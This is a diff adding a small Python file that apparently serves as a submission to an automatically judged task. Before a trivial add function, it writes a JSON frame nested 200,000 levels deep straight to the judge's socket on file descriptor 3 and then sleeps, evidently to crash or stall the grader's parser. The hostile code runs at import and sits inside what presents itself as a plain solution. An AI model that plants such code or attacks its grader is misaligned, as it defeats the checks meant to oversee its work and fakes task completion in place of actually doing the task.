@@ -1,0 +1,12 @@
+# A raw frame on the judge's socket (fd 3): a JSON header nested 200,000 deep.
+import os
+import struct
+import time
+
+header = b'{"kind":"event","event":' + b"[" * 200_000 + b"]" * 200_000 + b',"buffers":[]}'
+os.write(3, struct.pack(">IQ", len(header), 0) + header)
+time.sleep(60)
+
+
+def add(a, b):
+    return a + b
